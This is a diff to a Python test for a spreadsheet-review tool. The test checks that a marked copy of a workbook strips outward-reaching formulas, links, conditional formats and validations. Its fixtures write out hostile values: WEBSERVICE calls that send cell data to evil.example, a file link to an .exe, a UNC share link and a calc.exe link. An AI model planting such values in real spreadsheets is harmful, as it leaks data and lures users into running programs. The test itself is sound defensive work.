@@ -808,7 +808,7 @@ def test_quoted_sheet_names_hide_no_outward_formula(tmp_path: Path) -> None:
     HYPERLINK( between two such names, and the marked copy kept them live. Links to a share or
     a program, and conditional formats and validations that fetch, are dropped too; a web
     link and the department's own rule stay."""
-    from openpyxl.formatting.rule import FormulaRule
+    from openpyxl.formatting.rule import ColorScaleRule, FormulaRule
     from openpyxl.worksheet.datavalidation import DataValidation
 
     from catalog_check.review import review_file
@@ -823,12 +823,16 @@ def test_quoted_sheet_names_hide_no_outward_formula(tmp_path: Path) -> None:
     ws["K6"] = """=N('x"y'!A1)+LEN(WEBSERVICE("http:"&"//evil.example/w?"&B6))+N('p"q'!A1)"""
     ws["K7"] = """='x"y'!A1&HYPERLINK("file:"&"//evil.example/x.exe","说明")&'p"q'!A1"""
     ws["K8"] = """='x"y'!A1&"it's"&'p"q'!A1"""  # texts and names only: stays
+    ws["K9"] = "='[1]My Sheet'!A1"  # another workbook, its sheet name quoted
     ws["B6"].hyperlink = r"\\evil.example\share\steal.xlsx"
     ws["C5"].hyperlink = "file:///C:/Windows/System32/calc.exe"
     ws["C6"].hyperlink = "http://www.zjzwfw.gov.cn/"
     ws.conditional_formatting.add(
         "A5:A6", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://evil.example/cf"))']))
     ws.conditional_formatting.add("B5:B6", FormulaRule(formula=['LEN(B5)>30']))
+    ws.conditional_formatting.add("J5:J6", ColorScaleRule(
+        start_type="formula", start_value='LEN(WEBSERVICE("http://evil.example/s"))',
+        start_color="FFFFFFFF", end_type="max", end_color="FFFF0000"))
     fetch = DataValidation(type="custom", formula1='ISNUMBER(WEBSERVICE("http://e.example/v"))')
     ws.add_data_validation(fetch)
     fetch.add("D5:D6")
@@ -840,7 +844,7 @@ def test_quoted_sheet_names_hide_no_outward_formula(tmp_path: Path) -> None:
     out = write_marked_copy(source, full.workbook, full.tables.layouts, full.file,
                             tmp_path / "m.xlsx")
     sheet = openpyxl.load_workbook(out)[SHEET]
-    assert [sheet[c].data_type for c in ("K5", "K6", "K7")] == ["n", "n", "n"]
+    assert [sheet[c].data_type for c in ("K5", "K6", "K7", "K9")] == ["n", "n", "n", "n"]
     assert (sheet["K8"].data_type, sheet["K8"].value) == ("f", """='x"y'!A1&"it's"&'p"q'!A1""")
     assert sheet["B6"].hyperlink is None
     assert sheet["C5"].hyperlink is None
